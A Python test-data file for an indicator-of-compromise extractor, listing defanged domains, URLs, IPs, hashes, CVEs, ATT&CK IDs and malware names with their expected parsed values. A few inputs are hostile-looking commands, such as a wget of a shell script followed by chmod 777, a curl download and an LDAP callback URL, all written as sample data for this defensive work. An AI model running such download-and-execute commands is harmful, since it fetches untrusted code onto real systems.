"""Texts written for this project with the indicators that an analyst takes from them."""

from __future__ import annotations

from typing import Final, NamedTuple

MD5: Final = "3f2a90c1d4b7e85609f1a2c3b4d5e6f7"
SHA1: Final = "9c0d1e2f3a4b5c6d7e8f90a1b2c3d4e5f6071829"
SHA256: Final = "5b8e2f1c0d9a4736e1f20b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70"
PROSE: Final = (
    "The crew behind the campaign wrote to shipping firms for several months and waited for an answer. "
    "Its letters were short and polite, and most of them spoke of an invoice that nobody had paid so far. "
)
# Long enough to be an article: what a note of a few lines may name, an article may merely mention.
ARTICLE: Final = PROSE * 9
DISARMING_ARTICLE: Final = ARTICLE + "The panel stood at panel[.]orlop-yard[.]net in March.\n"


class Snippet(NamedTuple):
    """A text and the indicators in it, as `type value` in any order; `rule` says what it is about."""

    rule: str
    text: str
    expected: tuple[str, ...]


def _snippet(rule: str, text: str, *expected: str) -> Snippet:
    return Snippet(rule, text, expected)


S = _snippet

SNIPPETS: Final = (
    # --- how a dot is disarmed
    S("dot", "panel at gale-post[.]com now", "domain gale-post.com"),
    S("dot", "panel at gale-post(.)com now", "domain gale-post.com"),
    S("dot", "panel at gale-post{.}com now", "domain gale-post.com"),
    S("dot", "panel at gale-post[dot]com now", "domain gale-post.com"),
    S("dot", "panel at gale-post(dot)com now", "domain gale-post.com"),
    S("dot", "panel at gale-post[DOT]com now", "domain gale-post.com"),
    S("dot", "panel at gale-post [dot] com now", "domain gale-post.com"),
    S("dot", "panel at gale-post[.com now", "domain gale-post.com"),
    S("dot", "panel at gale-post.]com now", "domain gale-post.com"),
    S("dot", "panel at gale-post[[.]]com now", "domain gale-post.com"),
    S("dot", "panel at gale-post\\.com now", "domain gale-post.com"),
    S("dot", "panel at gale-post\\[.\\]com now", "domain gale-post.com"),
    S("dot", "panel at gale-post [.]com now", "domain gale-post.com"),
    S("dot", "panel at gale-post[.] com now", "domain gale-post.com"),
    S("dot", "panel at cdn[.]gale-post[.]co[.]uk now", "domain cdn.gale-post.co.uk"),
    S("dot", "panel at cdn.gale-post[.]com, then idle", "domain cdn.gale-post.com"),
    S("dot", "A sentence ends here [.] Another begins."),
    S("dot", "the pattern [.] matches one dot, (.) one more"),
    S("invisible", "panel at gale\u200bpost[.]com now", "domain galepost.com"),
    S("invisible", "panel at gale-\u00adpost[.]com now", "domain gale-post.com"),
    S("invisible", "panel at gale-post\ufeff[.]com now", "domain gale-post.com"),
    S("glued", "panel[.]gale-post[.]comThe next line", "domain panel.gale-post.com"),
    S("glued", "gale-post[.]com,mist-post[.]com;fog-post[.]com", "domain gale-post.com", "domain mist-post.com", "domain fog-post.com"),
    S("glued", "gale-post[.]com|mist-post[.]com", "domain gale-post.com", "domain mist-post.com"),
    # --- how a scheme is disarmed
    S("scheme", "hxxp://gale-post[.]com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "hxxps://gale-post[.]com/a", "url https://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "hXXps://gale-post.com/a", "url https://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "HXXP://gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "h**p://gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "htxp://gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "meow://gale-post[.]com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "fxp://gale-post[.]com/a", "url ftp://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "http[:]//gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "hxxps[:]//gale-post[.]com/a", "url https://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "http[://]gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "http:[//]gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "http(:)//gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "http:\\\\gale-post.com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "http__gale-post[.]com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "h__ps__gale-post[.]com/a", "url https://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "hxxp:// gale-post[.]com/a", "url http://gale-post.com/a", "domain gale-post.com"),
    S("scheme", "http%3A%2F%2Fgale-post%2Ecom%2Fa%2Ehta", "url http://gale-post.com/a.hta", "domain gale-post.com"),
    S("scheme", "tcp://185.220.101[.]47:443", "url tcp://185.220.101.47:443", "ip 185.220.101.47"),
    S("scheme", "ldap://gale-post[.]com:1389/a", "url ldap://gale-post.com:1389/a", "domain gale-post.com"),
    # --- where a URL ends
    S("end", "It is hxxp://gale-post[.]com/a.", "url http://gale-post.com/a", "domain gale-post.com"),
    S("end", "(hxxp://gale-post[.]com/a)", "url http://gale-post.com/a", "domain gale-post.com"),
    S("end", "hxxp://gale-post[.]com/a_(b)", "url http://gale-post.com/a_(b)", "domain gale-post.com"),
    S("end", "<hxxp://gale-post[.]com/a>", "url http://gale-post.com/a", "domain gale-post.com"),
    S("end", "`hxxp://gale-post[.]com/a`", "url http://gale-post.com/a", "domain gale-post.com"),
    S("end", "“hxxp://gale-post[.]com/a”", "url http://gale-post.com/a", "domain gale-post.com"),
    S("end", "`++hxxp://gale-post[.]com/a++`", "url http://gale-post.com/a", "domain gale-post.com"),
    S("end", "wget hxxp://gale-post[.]com/a.sh;chmod 777 a.sh", "url http://gale-post.com/a.sh", "domain gale-post.com"),
    S("end", "hxxp://gale-post[.]com/a|hxxp://mist-post[.]com/b", "url http://gale-post.com/a", "domain gale-post.com",
      "url http://mist-post.com/b", "domain mist-post.com"),
    S("end", "hxxp://gale-post[.]com/ahxxp://mist-post[.]com/b", "url http://gale-post.com/a", "domain gale-post.com",
      "url http://mist-post.com/b", "domain mist-post.com"),
    S("end", "hxxp://gale-post[.]com/a,hxxp://mist-post[.]com/b", "url http://gale-post.com/a", "domain gale-post.com",
      "url http://mist-post.com/b", "domain mist-post.com"),
    S("end", "[here](hxxps://gale-post[.]com/reset)", "url https://gale-post.com/reset", "domain gale-post.com"),
    S("end", "<a href=\"http://gale-post.com/x\">go</a>", "url http://gale-post.com/x", "domain gale-post.com"),
    S("end", "hxxp://gale-post[.]com/a?q=1;r=2&s=%20", "url http://gale-post.com/a?q=1;r=2&s=%20", "domain gale-post.com"),
    S("end", "hxxp://gale-post[.]com/go?u=http://mist-post.com/", "url http://gale-post.com/go?u=http://mist-post.com/",
      "domain gale-post.com"),
    S("end", "hxxp://gale-post[.]com/first\\_stage.zip", "url http://gale-post.com/first_stage.zip", "domain gale-post.com"),
    S("end", "curl 'hxxp://gale-post[.]com/a' -o b", "url http://gale-post.com/a", "domain gale-post.com"),
    S("parts", "http://bob:pw@gale-post.com:8081/gate.php", "url http://bob:pw@gale-post.com:8081/gate.php", "domain gale-post.com"),
    S("parts", "http://GALE-post.com:80/Path", "url http://gale-post.com/Path", "domain gale-post.com"),
    S("parts", "https://gale-post.com:443", "url https://gale-post.com", "domain gale-post.com"),
    S("parts", "http://[2a0b:1306::9]:8080/x", "url http://[2a0b:1306::9]:8080/x", "ip 2a0b:1306::9"),
    S("bare url", "gale-post[.]com/wp/x.php", "url http://gale-post.com/wp/x.php", "domain gale-post.com"),
    S("bare url", "gale-post[.]com[:]8080/x", "url http://gale-post.com:8080/x", "domain gale-post.com"),
    S("bare url", "185.220.101[.]47/bins.sh", "url http://185.220.101.47/bins.sh", "ip 185.220.101.47"),
    # --- addresses
    S("address", "beacon to 185.220.101[.]47 every hour", "ip 185.220.101.47"),
    S("address", "beacon to 185[.]220[.]101[.]47 every hour", "ip 185.220.101.47"),
    S("address", "beacon to 185.220.101.47:8443 every hour", "ip 185.220.101.47"),
    S("address", "beacon to 185.220.101[.]47[:]8443", "ip 185.220.101.47"),
    S("address", "beacon to (185.220.101.47).", "ip 185.220.101.47"),
    S("address", "from 185.220.101.47-185.220.101.49", "ip 185.220.101.47", "ip 185.220.101.49"),
    S("address", "block 185.220.101.0/24 at the border"),
    S("address", "myprocess -ip4:185.220.101.47", "ip 185.220.101.47"),
    S("address", "seen from 2A0B:1306:0:0::9 today", "ip 2a0b:1306::9"),
    S("address", "seen from 2a0b:1306:0:1:2:3:4:5 today", "ip 2a0b:1306:0:1:2:3:4:5"),
    S("address", "seen from 2a0b[:]1306[:][:]9 today", "ip 2a0b:1306::9"),
    S("no address", "at 09:27:13 from 00:1b:44:11:3a:b7 by std::string a::b"),
    S("no address", "OID 1.3.6.1.4.1.311.2.1.12 in section 4.2.1.3.5"),
    S("no address", "Mozilla/5.0 Chrome/131.0.0.0 Safari/537.36"),
    S("no address", "Ivanti Connect Secure 22.7.2.3 and firmware 9.1.18.9"),
    S("no address", "upgrade from version 10.2.4.1 or v9.1.0.2"),
    S("no address", "2018.12.15.14.05.43 and 256.1.1.1 and 1.2.3"),
    S("no address", ARTICLE + "It asked 8.8.8.8 and listened on 127.0.0.1 and 192.168.1.5."),
    S("address", ARTICLE + "It asked 185.220.101.47 for orders.", "ip 185.220.101.47"),
    # --- hashes
    S("hash", f"MD5 {MD5}", f"hash_md5 {MD5}"),
    S("hash", f"sha1({SHA1.upper()})", f"hash_sha1 {SHA1}"),
    S("hash", f"sha256:{SHA256},next", f"hash_sha256 {SHA256}"),
    S("hash", f"|`+{SHA1.upper()}+` |Win32/Orlop.A", f"hash_sha1 {SHA1}"),
    S("hash", f"{MD5} *invoice.exe\n{SHA1}  letter.doc", f"hash_md5 {MD5}", f"hash_sha1 {SHA1}"),
    S("hash", f"-hash={MD5}", f"hash_md5 {MD5}"),
    S("hash", f"sample_{MD5}.bin", f"hash_md5 {MD5}"),
    S("hash", f"imphash: {MD5}"),
    S("hash", f"Import Hash\n{MD5}"),
    S("hash", f"authentihash {SHA256}"),
    S("hash", f"JA3 fingerprint: {MD5}, JA3S {MD5}"),
    S("hash", f"wallet 0x{SHA1}"),
    S("hash", f"{SHA256}{SHA256}"),
    S("hash", f"id {MD5}ab and {SHA1[:-1]}"),
    S("hash", "GUID 550e8400-e29b-41d4-a716-446655440000"),
    S("hash", "number 12345678901234567890123456789012"),
    # --- identifiers
    S("cve", "cve-2024-3400 and CVE-2021-44228.", "cve CVE-2024-3400", "cve CVE-2021-44228"),
    S("cve", "CVE‑2024‑3400 with odd dashes", "cve CVE-2024-3400"),
    S("cve", "CVE 2020-0601 and CVE_2019_0708", "cve CVE-2020-0601", "cve CVE-2019-0708"),
    S("cve", "CVE-2021-34473/34523/31207", "cve CVE-2021-34473", "cve CVE-2021-34523", "cve CVE-2021-31207"),
    S("cve", "CVE-19999-0000 is none, nor is XCVE-2020-1 or CVE-2020-12"),
    S("technique", "T1059 and T1053.005.", "mitre_attack T1059", "mitre_attack T1053.005"),
    S("technique", "(T1566.001) [T1204]", "mitre_attack T1566.001", "mitre_attack T1204"),
    S("technique", "FOOT1059 T12345 TA0001 S0154 T1059.0012 IT1059"),
    S("technique", "the ThinkPad T1000 and part T9999"),
    S("technique", "https://attack.mitre.org/techniques/T1059/001/", "mitre_attack T1059.001"),
    S("cve", "https://nvd.nist.gov/vuln/detail/CVE-2024-3400", "cve CVE-2024-3400"),
    # --- mailboxes
    S("mailbox", "write to drop@gale-post[.]com", "email drop@gale-post.com", "domain gale-post.com"),
    S("mailbox", "write to drop[@]gale-post[.]com", "email drop@gale-post.com", "domain gale-post.com"),
    S("mailbox", "write to drop(at)gale-post[.]com", "email drop@gale-post.com", "domain gale-post.com"),
    S("mailbox", "write to drop[at]protonmail[dot]com", "email drop@protonmail.com"),
    S("mailbox", "ransom_note AT onionmail DOT org", "email ransom_note@onionmail.org"),
    S("mailbox", "`drop@seznam.cz`", "email drop@seznam.cz"),
    S("mailbox", "first[.]last@cock[.]li", "email first.last@cock.li"),
    S("mailbox", "drop @cock[.]li", "email drop@cock.li"),
    S("mailbox", "MAILTO:<Drop.Box+1@Cock.LI>", "email Drop.Box+1@cock.li"),
    S("no mailbox", "image@2x.png and user@host and @SuppressWarnings"),
    S("no mailbox", "git clone git@github.com:crew/tool.git"),
    S("no mailbox", ARTICLE + "Questions? Write to press@bleepingcomputer.com."),
    S("mailbox", ARTICLE + "The note asks to write to decrypt-me@tutanota.com.", "email decrypt-me@tutanota.com"),
    # --- names that are no hosts
    S("file", "setup.py main.rs readme.md lib.so script.pl archive.zip"),
    S("file", "the file payload[.]dll and loader[.]exe and setup[.]py"),
    S("file", "C:\\gale-post.com\\x.dll /usr/share/gale.py"),
    S("file", "ran update.exe, svchost.exe and letter.docx"),
    S("code", "System.IO WScript.Shell ADODB.Stream ASP.NET"),
    S("code", "self.name = user.name; document.cookie; window.location.host; e.target.id"),
    S("code", "match.group() and os.path.name(x)"),
    S("detection", "Win32/Orlop.FR Turla.BT TrojanDownloader.AutoHK.KH MSIL/Agent.AT"),
    S("full stop", "It came to an end.It was the account.in question"),
    S("package", "com.android.vending com.gale.app org.gale.run"),
    S("template", "server-{1,30}[.]host"),
    S("suffix", "*.ddns.net and *.duckdns[.]org are free"),
    S("host", "m.gale-post.com data.gale-post.net smtp.gale-post.org", "domain m.gale-post.com", "domain data.gale-post.net",
      "domain smtp.gale-post.org"),
    S("host", "xn--e1aybc.xn--p1ai and gale-post.xyz", "domain xn--e1aybc.xn--p1ai", "domain gale-post.xyz"),
    S("host", "update.移动 и почта-шторм.рф", "domain update.xn--6frz82g", "domain xn----7sb1bfcclmc0co.xn--p1ai"),
    S("host", "GALE-POST.COM", "domain gale-post.com"),
    S("host", "_dmarc.gale-post.com", "domain _dmarc.gale-post.com"),
    S("host", "shopgale4x.onion", "domain shopgale4x.onion"),
    S("host", "gale-post.nosuchtop and gale-.com and .com"),
    S("reserved", "see www.example.com, bob@example.org or test.example."),
    S("reserved", "panel at gale-post[.]example", "domain gale-post.example"),
    # --- what an article mentions and what it accuses
    S("article", ARTICLE + "The loader fetched its orders from gale-post.com.", "domain gale-post.com"),
    S("article", ARTICLE + "Our friends at gale-post.com liked the story."),
    S("article", ARTICLE + "More at https://www.bleepingcomputer.com/news/security/storm/."),
    S("article", ARTICLE + "As [told before](https://gale-post.com/2024/storm), it rains."),
    S("article", ARTICLE + "\n\nReferences\n- https://gale-post.com/2024/storm\n- gale-post.com\n"),
    S("article", ARTICLE + "\n\nIndicators of compromise\n- gale-post.com\n- mist-post.ru\n", "domain gale-post.com",
      "domain mist-post.ru"),
    S("article", ARTICLE + "\n\n## C2 servers\n\n| gale-post.com | 443 |\n| 185.220.101.47 | 80 |\n", "domain gale-post.com",
      "ip 185.220.101.47"),
    S("article", ARTICLE + "\n\nIOCs\n* `gale-post.com`\n* `mist-post.ru` (was `fog-post.ru`)\n", "domain gale-post.com",
      "domain mist-post.ru", "domain fog-post.ru"),
    S("article", DISARMING_ARTICLE + "Compare the weather on weather-gale.com for that day.", "domain panel.orlop-yard.net"),
    S("article", DISARMING_ARTICLE + "It is kept at https://gale-post.com/blog/storm for readers.", "domain panel.orlop-yard.net"),
    S("article", DISARMING_ARTICLE + "\nDomains\n\ngale-post.ru\nmist-post.host\nfog-post.ru\n", "domain panel.orlop-yard.net",
      "domain gale-post.ru", "domain mist-post.host", "domain fog-post.ru"),
    S("article", DISARMING_ARTICLE + "\nFiles\n\nmain.rs\nscript.pl\nbox.zip\n", "domain panel.orlop-yard.net"),
    S("article", ARTICLE + "Stolen files went to hxxps://pastebin[.]com/raw/a1b2.", "url https://pastebin.com/raw/a1b2",
      "domain pastebin.com"),
    S("article", "url: https://blog.gale-post.com/2024/storm\n\n" + ARTICLE + "Read blog.gale-post.com and www.gale-post.com. "
      "Its C2 server is mist-post.ru.", "domain mist-post.ru"),
    # --- names of malware
    S("malware", "Emotet delivered TrickBot", "malware Emotet", "malware TrickBot"),
    S("malware", "PLUGX, plugx and (PlugX)", "malware PlugX"),
    S("malware", "Cobalt Strike beacons, CobaltStrike too", "malware Cobalt Strike"),
    S("malware", "Geodo is an old name", "malware Emotet"),
    S("malware", "Emotet/TrickBot, Emotet's and Emotet-infected", "malware Emotet", "malware TrickBot"),
    S("malware", "the Gh0st RAT and njRAT", "malware gh0st RAT", "malware njRAT"),
    S("malware", "the Play ransomware", "malware Playcrypt"),
    S("malware", "ready to play, a dark page, the royal net at one snake"),
    S("malware", "The group was ready to Play. Royal guests."),
    S("malware", "wrote to emotet-fans[.]com", "domain emotet-fans.com"),
    S("malware", "ran ping, net and reg, then PsExec"),
    S("malware", "Mimikatz and the LockBit ransomware", "malware Mimikatz", "malware LockBit"),
)  # fmt: skip
